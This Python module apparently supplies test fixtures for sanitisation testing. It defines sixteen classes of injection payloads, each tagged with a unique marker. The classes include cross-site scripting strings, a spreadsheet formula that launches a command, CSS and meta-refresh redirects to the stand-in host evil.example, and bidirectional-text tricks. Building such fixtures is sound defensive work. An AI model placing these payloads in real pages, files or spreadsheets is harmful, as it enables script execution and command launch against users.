"""Text that wants to be more than text: sixteen classes of payloads, each of which carries a mark to find it by."""

from __future__ import annotations

OUTSIDE = "https://evil.example"
"""Where a payload would send a browser."""

PAYLOADS: dict[str, str] = {
    "script": "<script>top.document.title='hit';alert(1)</script>",
    "handler": f'"><img src={OUTSIDE}/i onerror="alert(1);document.body.dataset.hit=\'1\'">',
    "svg": "<svg onload=alert(1)><style>body{display:none}</style></svg>",
    "link": f"[press](javascript:alert(1)) <a href='javascript:alert(1)' target=_top>a</a> {OUTSIDE}",
    "image": f"![x]({OUTSIDE}/pixel.png) <img srcset={OUTSIDE}/s>",
    "icon": ":material/warning: :red[red] :smile: $x^2$ `code` ~~gone~~",
    "frame": f"<iframe srcdoc='<script>parent.alert(1)</script>' src={OUTSIDE}></iframe><object data={OUTSIDE}>",
    "style": f"</style><style>@import '{OUTSIDE}/c';*{{background:url({OUTSIDE}/b)}}</style>",
    "base": f"<base href={OUTSIDE}/><meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    "form": f"<form action={OUTSIDE}><input autofocus onfocus=alert(1)><button>go</button></form>",
    "closing": "</pre></div></textarea></title></script><h1 id=root onclick=alert(1)>over</h1>",
    "quotes": "' onmouseover='alert(1)' \" onmouseover=\"alert(1)\" ` ${alert(1)} {{alert(1)}} </script>",
    "formula": f'=HYPERLINK("{OUTSIDE}","x")+cmd|\' /C calc\'!A0',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; \\u003cscript>",
    "direction": "\u202ereversed\u202c \u2066<b onclick=alert(1)>\u2069 z\u0335\u0336\u0337 \ufeff",
    "data": "data:text/html,<script>alert(1)</script> vbscript:alert(1) jAvAsCrIpT:alert(1) //evil.example/x",
}
"""Name of the class → the text."""


def marked(name: str, field: str) -> str:
    """The payload of a class as it stands in one field: begins as it is (a formula stays one), ends in a mark."""
    return f"{PAYLOADS[name]} {mark(name, field)}"


def mark(name: str, field: str) -> str:
    """A word that no other field of any document holds."""
    return f"zz{name}in{field}"
